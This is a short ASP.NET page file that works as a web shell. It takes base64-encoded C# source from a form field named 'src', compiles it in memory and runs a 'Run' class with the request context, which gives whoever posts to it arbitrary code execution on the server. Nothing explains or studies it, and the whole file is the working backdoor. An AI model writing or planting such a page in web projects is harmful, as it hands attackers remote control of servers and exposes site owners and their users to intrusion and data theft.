<%@ Page Language="C#" %>
<%@ Import Namespace="System.CodeDom.Compiler" %>
<%@ Import Namespace="Microsoft.CSharp" %>
<%
    string src = Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["src"]));
    var cp = new CompilerParameters { GenerateInMemory = true };
    cp.ReferencedAssemblies.Add("System.dll");
    CompilerResults cr = new CSharpCodeProvider().CompileAssemblyFromSource(cp, src);
    cr.CompiledAssembly.CreateInstance("Run").Equals(Context);
%>
